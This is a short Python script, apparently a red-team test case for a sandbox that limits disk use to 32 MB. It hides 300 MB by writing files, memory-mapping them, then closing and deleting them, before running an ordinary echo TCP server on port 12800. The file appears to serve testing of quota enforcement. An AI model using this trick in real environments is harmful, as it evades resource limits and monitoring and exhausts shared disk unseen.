# HOSTILE (red team, round 2): a correct TCP server that first hides 300 MB of disk (the limit is 32 MB):
# files written, mapped (never touched), closed and deleted: no name, no descriptor; a mapping keeps them.
import ctypes, os, socket
MB = 1 << 20
chunk = b"x" * MB
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.memset.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t]
PROT_RW, MAP_SHARED, MAP_ANON, MADV_DONTNEED = 3, 1, 0x20, 4
home = os.environ.get("HOME", "/tmp")

maps = []
for i in range(20):
    p = os.path.join(home, "g%d" % i)
    fd = os.open(p, os.O_CREAT | os.O_RDWR, 0o600)
    for _ in range(15):
        os.write(fd, chunk)
    maps.append(libc.mmap(None, 15 * MB, PROT_RW, MAP_SHARED, fd, 0))
    os.close(fd)
    os.unlink(p)
print("hid 300 MB of deleted files behind mappings", flush=True)

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.bind(('', 12800)); s.listen(1)
print("The server now listens on the port 12800", flush=True)
conn, addr = s.accept()
msg = b""
while msg != b"end":
    msg = conn.recv(1024)
    if not msg:
        break
    conn.send(b"Message received")
    print("Received", msg, flush=True)
conn.close(); s.close()
